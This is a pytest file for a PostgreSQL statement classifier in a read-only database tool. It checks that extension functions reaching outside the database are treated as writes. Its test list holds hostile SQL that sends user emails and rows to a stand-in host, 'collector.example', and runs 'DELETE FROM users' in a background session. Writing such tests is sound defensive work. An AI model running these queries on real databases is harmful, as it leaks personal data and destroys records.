"""A READ ONLY transaction does not stop an extension's function from reaching past the database
(issue 23, finding 12 held out): pgsql-http's and pg_net's ``http_get``/``http_post`` send a
query's result anywhere, ``pg_background_launch`` runs SQL in another session, outside the
read-only transaction. A read-only source refuses them by PostgreSQL's parser and, without it,
by name — while a URL in a literal stays a plain read."""

from __future__ import annotations

import pytest

from aiq_tui.tools.pg_statements import classify_without_parser

REACHING_OUT = [
    "SELECT http_get('https://collector.example/?d=' || (SELECT string_agg(email, ',') FROM users))",
    "SELECT status FROM http_post('https://collector.example', (SELECT json_agg(u)::text FROM users u), 'text/plain')",
    "SELECT net.http_post(url := 'https://collector.example', body := '{}'::jsonb)",
    "SELECT * FROM http(('GET', 'https://collector.example', NULL, NULL, NULL)::http_request)",
    "SELECT pg_background_launch('DELETE FROM users')",
    "SELECT pg_stat_statements_reset()",
]


@pytest.mark.parametrize("sql", REACHING_OUT)
def test_the_parser_refuses_functions_that_reach_past_the_database(sql: str) -> None:
    pytest.importorskip("pglast")
    from aiq_tui.tools.pg_statements import classify_postgres

    verdict = classify_postgres(sql)
    assert verdict.kind == "write" and verdict.reason


@pytest.mark.parametrize("sql", REACHING_OUT)
def test_without_the_parser_they_are_refused_by_name(sql: str) -> None:
    verdict = classify_without_parser(sql)
    assert verdict.kind == "write" and verdict.reason


def test_a_url_in_a_literal_is_still_a_plain_read() -> None:
    assert (
        classify_without_parser("SELECT id FROM pages WHERE url LIKE 'https://%'").kind
        == "read"
    )
